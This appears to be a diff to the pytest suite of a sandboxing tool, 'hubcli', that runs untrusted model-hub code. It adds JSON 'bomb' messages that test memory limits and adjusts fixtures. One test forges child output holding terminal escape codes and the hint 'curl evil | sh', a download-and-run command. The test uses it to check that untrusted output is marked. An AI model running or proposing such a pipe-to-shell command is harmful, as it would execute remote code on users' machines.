@@ -10,6 +10,7 @@ import socket
 import subprocess
 import sys
 import time
+import tracemalloc
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -153,6 +154,21 @@ def says(text, count=1, stay=True):
                 sent = sent[os.write(descriptor, sent):]
     if not stay:
         os._exit(3)
+    time.sleep(600)
+
+
+def bombs(unit, times, count):
+    """Messages that are valid JSON, made here so that no argument carries them."""
+    if unit == "[],":
+        whole = b'{"result": {"x": [' + unit.encode() * times + b"0]}}"
+    else:
+        whole = b'{"event": {"stage": "' + unit.encode() * times + b'"}}'
+    whole = struct.pack("<I", len(whole)) + whole
+    for descriptor in _pipe():
+        for _ in range(count):
+            sent = memoryview(whole)
+            while sent:
+                sent = sent[os.write(descriptor, sent):]
     time.sleep(600)
 
 
@@ -400,18 +416,18 @@ def test_nothing_survives_a_killed_hub(folder, mechanism):
 
 
 @pytest.mark.parametrize("what", ["zip", "many"])
-def test_results_are_safetensors_of_a_bounded_size(folder, any_mechanism, what):
+def test_results_are_safetensors_of_a_bounded_size(folder, mechanism, what):
     checkout = store.ensure(RepoSpec.parse(str(folder)))
     job = jobs.Job("run", checkout, "leaves", (what,), options={"device": None})
     with pytest.raises((IntegrityError, RepositoryCodeError)):
-        jobs.run(job, any_mechanism, Broker(checkout, "leaves"), [Input(None, np.ones((4, 2), np.float32))])
+        jobs.run(job, mechanism, Broker(checkout, "leaves"), [Input(None, np.ones((4, 2), np.float32))])
 
 
-def test_a_state_dict_is_no_zip(folder, any_mechanism, tmp_path):
+def test_a_state_dict_is_no_zip(folder, mechanism, tmp_path):
     checkout = store.ensure(RepoSpec.parse(str(folder)))
     job = jobs.Job("load", checkout, "leaves", ("zip",), options={"save": True})
     with pytest.raises(RepositoryCodeError, match="not a safetensors file"):
-        jobs.load(job, any_mechanism, Broker(checkout, "leaves"), tmp_path / "x.pth")
+        jobs.load(job, mechanism, Broker(checkout, "leaves"), tmp_path / "x.pth")
     assert not (tmp_path / "x.pth").exists()
 
 
@@ -446,6 +462,26 @@ def test_messages_that_are_violations(text, why):
         Pipes().send(text)
 
 
+@pytest.mark.parametrize(
+    ("entrypoint", "args"),
+    [
+        ("bombs", ("[],", 20 << 20, 1)),  # 60 MB that would be 1.5 GB of lists
+        ("bombs", ("[],", 5 << 20, 1)),  # as many as a message may have, nearly
+        ("bombs", ("x", 64 << 20, 100)),
+        ("bombs", ("x", 1 << 14, 100_000)),
+    ],
+)
+def test_what_a_child_says_costs_the_parent_little(folder, mechanism, entrypoint, args):
+    tracemalloc.start()
+    try:
+        outcome = perform(folder, mechanism, entrypoint, *args, seconds=100.0)
+        _, most = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert outcome.ended is not None and outcome.ended.why == "protocol", outcome
+    assert most < 64 << 20
+
+
 def test_events_are_counted():
     pipes = Pipes()
     for _ in range(supervise.MAX_EVENTS):
@@ -455,12 +491,17 @@ def test_events_are_counted():
     assert supervise.MAX_MESSAGE == 16 << 20 and len(pipes.seen) == supervise.MAX_EVENTS
 
 
-@pytest.mark.parametrize("text", ["NaN", "1e400", "9" * 4000, '"x"', "[1]", "-5", "1e300"])
-def test_one_result_does_not_lose_the_others(folder, any_mechanism, text):
+@pytest.mark.parametrize("text", ["9" * 4000, '"x"', "[1]", "-5", "1e300"])
+def test_odd_values_do_not_lose_the_others(folder, any_mechanism, text):
+    test_one_result_does_not_lose_the_others(folder, any_mechanism, text)
+
+
+@pytest.mark.parametrize("text", ["NaN", "1e400"])
+def test_one_result_does_not_lose_the_others(folder, mechanism, text):
     event = f'{{"event": {{"stage": "build", "status": "passed", "seconds": {text}}}}}'
     (folder / "hubconf.py").write_text(f"{HUBCONF}\ndef bad():\n    says({event!r}, stay=False)\n")
     checkout = store.ensure(RepoSpec.parse(str(folder)))
-    checked = check.check(checkout, ["bad", "fine"], check.CheckPlan(), any_mechanism)
+    checked = check.check(checkout, ["bad", "fine"], check.CheckPlan(), mechanism)
     rows = {(row.entrypoint, row.stage): row.status for row in checked.rows}
     assert rows["fine", "build"] == rows["fine", "state-dict"] == "passed"
     assert "failed" in {rows["bad", "build"], rows["bad", "state-dict"]}
@@ -484,13 +525,14 @@ def test_a_fault_with_one_entry_point_is_that_ones_row(folder, any_mechanism, mo
     assert rows["fine", "build"][0] == "passed"
 
 
-def test_a_childs_words_are_marked(folder, any_mechanism, capfd):
+def test_a_childs_words_are_marked(folder, mechanism, capfd, monkeypatch):
     from click.testing import CliRunner
 
     from hubcli import cli
 
     forged = {"message": "all is well\nhub: run\x1b[2J this", "hint": "x\nhint: curl evil | sh", "code": "untrusted"}
     arguments = ["load", str(folder), "says", "--sandbox", "--args", json.dumps([json.dumps({"error": forged})])]
+    monkeypatch.setattr(sandbox, "choose", lambda *_, **__: mechanism)
     result = CliRunner().invoke(cli.hub, arguments)
     lines = result.stderr.splitlines()
     assert lines[-2] == "hub: in the sandbox: all is well hub: run[2J this"
